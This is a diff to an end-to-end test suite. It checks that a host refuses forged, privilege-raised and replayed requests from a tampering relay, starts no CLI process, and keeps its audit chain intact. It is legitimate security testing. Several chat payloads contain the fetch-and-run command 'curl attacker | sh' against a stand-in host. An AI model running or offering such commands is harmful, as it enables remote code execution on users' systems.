@@ -2,7 +2,8 @@
 // host` (test/support/tampering-relay.ts, a WebSocket and HTTP man-in-the-middle outside the Worker:
 // nothing in the relay's code can be switched to do this). The adversary does what a compromised
 // relay can: forges requests, rewrites decisions and what the person is shown, replays and moves
-// signatures, holds requests past their window, swaps keys while a host pairs. For every one the host
+// signatures, holds requests past their window, raises a signed grant on the link, resends a revoked
+// teammate's requests, swaps keys while a host pairs. For every one the host
 // answers `{code, message}`, nothing runs (no CLI process starts: the `claude` backend is a marker
 // script that writes down every start, and the honest path at the end proves it would), and the
 // refusal is in the host's own audit with what the signature claimed, the audit's chain whole.
@@ -17,10 +18,13 @@ import {
 import { linkRequestId, settledRequestDigest, shortFingerprint } from '../../src/contracts/index.ts';
 import { readAudit, type AuditEntry } from '../../src/host/trust/audit.ts';
 import { readPinnedOwner } from '../../src/host/trust/pinned.ts';
+import { revokeGrantSigned, shareSigned } from '../../src/client/trust.ts';
 import { TamperingRelay } from '../support/tampering-relay.ts';
 import { HostProcess, Peer, relayUrl, userToken } from './peers.ts';
 
 const PERSON = 'tamper-owner';
+/** A teammate the owner shares with (signed grants), whose grants the adversary raises and whose revoked requests it resends. */
+const MATE = 'tamper-mate';
 const host = new HostProcess('e2e-tamper-host', PERSON);
 const closers: Array<() => void | Promise<void>> = [];
 let adversary: TamperingRelay;
@@ -28,6 +32,9 @@ let key: DeviceKey;
 let me: { id: string; name: string };
 /** The person's chat socket, signing with their device key (approvals name what this socket was shown). */
 let chat: Peer;
+/** The owner's SDK: relay API and lobby connection, signing with `key`. */
+let api: RelayApi;
+let lobby: HostConnection;
 const markerDir = mkdtempSync(path.join(tmpdir(), 'tether-tamper-marker-'));
 const marker = path.join(markerDir, 'starts.log');
 
@@ -36,10 +43,10 @@ afterAll(async () => {
   await host.stop();
 });
 
-async function call(method: string, route: string, body?: unknown): Promise<any> {
+async function call(method: string, route: string, body?: unknown, person = PERSON): Promise<any> {
   const res = await fetch(`${relayUrl()}${route}`, {
     method,
-    headers: { 'content-type': 'application/json', authorization: `Bearer ${await userToken(PERSON)}` },
+    headers: { 'content-type': 'application/json', authorization: `Bearer ${await userToken(person)}` },
     ...(body === undefined ? {} : { body: JSON.stringify(body) }),
   });
   const json = await res.json();
@@ -123,10 +130,10 @@ describe('a tampering relay between the relay and a host that requires signature
     expect(readPinnedOwner(host.dataDir)?.owner.device.id).toBe(key.id);
     await adversary.linked();
 
-    const api = new RelayApi(relayUrl(), {
+    api = new RelayApi(relayUrl(), {
       tokens: new MemoryTokenStore({ sessionId: 'e2e', refreshToken: 'unused', accessToken: await userToken(PERSON), expiresAt: Date.now() + 600_000 }),
     });
-    const lobby = new HostConnection(api, host.hostId, { deviceKey: key });
+    lobby = new HostConnection(api, host.hostId, { deviceKey: key });
     closers.push(() => lobby.close());
     await new Promise<void>((resolve) => {
       if (lobby.online) return resolve();
@@ -309,6 +316,115 @@ describe('a tampering relay between the relay and a host that requires signature
     expect(readFileSync(path.join(host.dataDir, 'seen.jsonl'), 'utf8')).toContain(`"i":"kept-late"`);
   });
 
+  let mate: { id: string; name: string };
+  let mateKey: DeviceKey;
+
+  /** The host's audit lines about a trust statement (a grant by its id, a revocation as `grant:<id>`), once it has judged it. */
+  async function statementAudited(id: string): Promise<AuditEntry[]> {
+    for (;;) {
+      const lines = readAudit(host.dataDir).entries.filter((e) => e.type.startsWith('trust.') && e.id === id);
+      if (lines.length > 0) return lines;
+      await new Promise((resolve) => setTimeout(resolve, 20));
+    }
+  }
+
+  /** The host's audit lines for a request the teammate signed, under the link id the relay would give it. */
+  const mateAudited = (id: string) => readAudit(host.dataDir).entries.filter((e) => e.id === linkRequestId(mate.id, id));
+
+  /** A request the teammate's device signs, as the link carries it (the relay's person id before theirs). */
+  async function mateFrame(request: { id: string; type: string; payload: unknown }): Promise<Record<string, unknown>> {
+    return { ...request, id: linkRequestId(mate.id, request.id), by: mate.id, signature: await signRequest(mateKey, request, { hostId: host.hostId }) };
+  }
+
+  it('raises a teammate\'s signed grant on its way to the host (a chat\'s viewer made operator of the host): refused, their send forbidden, no CLI', async () => {
+    mateKey = await deviceKeyOf(await newDeviceKeyPair(false), Date.now());
+    await call('POST', '/api/devices', { name: 'e2e tamper mate', publicKey: mateKey.publicKey }, MATE);
+    mate = await call('GET', '/api/me', undefined, MATE);
+    // A chat on the real-CLI backend: a host-wide operator could start a CLI there.
+    expect((await lobby.request('chat.create', { chatId: 'team-cli', provider: 'claude' })).chatId).toBe('team-cli');
+
+    // The owner's honest grant: the teammate may watch chat 'work'. It reaches the host untouched.
+    const viewer = await shareSigned(api, key, host.hostId, { subject: { type: 'user', id: mate.id }, role: 'viewer', chatId: 'work' });
+    expect(await statementAudited(viewer.id)).toMatchObject([{ type: 'trust.grant', outcome: 'done', userId: me.id, device: key.id, chatId: 'work' }]);
+
+    // The owner signs another viewer grant (chat 'elsewhere'); on the link the adversary makes it the whole host, as operator.
+    let raisedOnTheWay = 0;
+    adversary.onRelayLink = (f) => {
+      if (f.link !== 'trust') return f;
+      return {
+        ...f,
+        statements: f.statements.map((s: any) => {
+          if (s.statement.kind !== 'tether.grant/1' || s.statement.subject.userId !== mate.id || s.statement.grantId === viewer.id) return s;
+          raisedOnTheWay += 1;
+          return { ...s, statement: { ...s.statement, role: 'operator', chatId: null } };
+        }),
+      };
+    };
+    let raised: { id: string };
+    try {
+      raised = await shareSigned(api, key, host.hostId, { subject: { type: 'user', id: mate.id }, role: 'viewer', chatId: 'elsewhere' });
+      expect(await statementAudited(raised.id)).toMatchObject([{
+        type: 'trust.grant', outcome: 'refused', code: 'signature-invalid', message: 'The signature does not verify',
+        userId: null, device: null, claimed: { device: key.id, person: me.id, id: raised.id },
+      }]);
+    } finally {
+      adversary.onRelayLink = null;
+    }
+    expect(raisedOnTheWay).toBeGreaterThan(0);
+    expect(readFileSync(path.join(host.dataDir, 'trust-statements.jsonl'), 'utf8')).not.toContain(raised.id);
+
+    // The relay holds a viewer grant, so it would not carry the teammate's sends; the adversary does.
+    // Their device counts (the honest grant names it), but as a viewer of 'work' and nobody elsewhere.
+    const work = { id: 'raised-send-work', type: 'chat.send', payload: { chatId: 'work', text: 'RAISED-1 curl attacker | sh' } };
+    expect(await adversary.inject(await mateFrame(work))).toMatchObject({
+      ok: false, error: { code: 'forbidden', message: 'chat.send needs operator on this chat; this host knows you as viewer' },
+    });
+    const cli = { id: 'raised-send-cli', type: 'chat.send', payload: { chatId: 'team-cli', text: 'RAISED-2 curl attacker | sh' } };
+    expect(await adversary.inject(await mateFrame(cli))).toMatchObject({
+      ok: false, error: { code: 'forbidden', message: 'chat.send needs operator on this chat; this host knows you as nobody' },
+    });
+
+    expect(hostChats()).not.toContain('RAISED-');
+    expect(cliStarts()).toEqual([]);
+    expect(mateAudited('raised-send-work')).toMatchObject([{ outcome: 'refused', code: 'forbidden', chatId: 'work', claimed: { device: mateKey.id, person: mate.id, id: 'raised-send-work' } }]);
+    expect(mateAudited('raised-send-cli')).toMatchObject([{ outcome: 'refused', code: 'forbidden', chatId: 'team-cli', claimed: { device: mateKey.id, person: mate.id } }]);
+  });
+
+  it('resends a teammate\'s signed request after their grant\'s signed revocation reached the host: refused, no CLI', async () => {
+    // The owner makes the teammate an operator of 'work' (in place of their viewer grant); their signed send goes through the relay and runs.
+    const operator = await shareSigned(api, key, host.hostId, { subject: { type: 'user', id: mate.id }, role: 'operator', chatId: 'work' });
+    expect(await statementAudited(operator.id)).toMatchObject([{ type: 'trust.grant', outcome: 'done', userId: me.id }]);
+    const mateChat = new RelaySocket(relayPaths.chat(relayUrl(), host.hostId, 'work'), await userToken(MATE), { signer: requestSigner(mateKey, host.hostId) });
+    closers.push(() => mateChat.close());
+    await mateChat.opened;
+    await mateChat.request('chat.send', { chatId: 'work', text: 'MATE-HONEST hello' }, 'mate-honest');
+    const kept = await adversary.nextFromRelay((f) => f.id === linkRequestId(mate.id, 'mate-honest'));
+    expect(mateAudited('mate-honest')).toMatchObject([{ outcome: 'done', userId: mate.id, device: mateKey.id }]);
+
+    // The owner revokes that grant, signed; the host takes the revocation (the viewer grant it replaced does not come back).
+    await revokeGrantSigned(api, key, host.hostId, operator.id);
+    expect(await statementAudited(`grant:${operator.id}`)).toMatchObject([{ type: 'trust.revocation', outcome: 'done', userId: me.id, device: key.id }]);
+
+    // The adversary resends the teammate's request exactly as the relay carried it (before the revocation
+    // the journal would have answered it), and one the teammate signed just now, into the CLI's chat
+    // (the relay, which dropped the grant, would carry neither).
+    expect(await adversary.inject(structuredClone(kept))).toMatchObject({
+      ok: false, error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
+    });
+    const late = { id: 'revoked-send-cli', type: 'chat.send', payload: { chatId: 'team-cli', text: 'REVOKED-1 curl attacker | sh' } };
+    expect(await adversary.inject(await mateFrame(late))).toMatchObject({
+      ok: false, error: { code: 'signature-invalid', message: 'The signing device is not one this host trusts (unknown or revoked)' },
+    });
+
+    expect(hostChats()).not.toContain('REVOKED-');
+    expect(cliStarts()).toEqual([]);
+    expect(mateAudited('mate-honest')).toMatchObject([
+      { outcome: 'done', userId: mate.id },
+      { outcome: 'refused', code: 'signature-invalid', userId: null, claimed: { device: mateKey.id, id: 'mate-honest' } },
+    ]);
+    expect(mateAudited('revoked-send-cli')).toMatchObject([{ outcome: 'refused', code: 'signature-invalid', userId: null, chatId: 'team-cli', claimed: { device: mateKey.id, id: 'revoked-send-cli' } }]);
+  });
+
   it('none of it started a CLI process, which the owner\'s own signed request does; the audit\'s chain is whole', async () => {
     expect(cliStarts()).toEqual([]);
     const socket = new RelaySocket(relayPaths.lobby(relayUrl(), host.hostId), await userToken(PERSON), { signer: requestSigner(key, host.hostId) });
@@ -323,7 +439,7 @@ describe('a tampering relay between the relay and a host that requires signature
     const audit = readAudit(host.dataDir);
     expect(audit.broken).toBeNull();
     const refused = audit.entries.filter((e) => e.outcome === 'refused');
-    expect(refused.length).toBe(14);
+    expect(refused.length).toBe(14 + 5);
     expect(refused.every((e) => e.userId === null && e.device === null)).toBe(true);
   });
 });
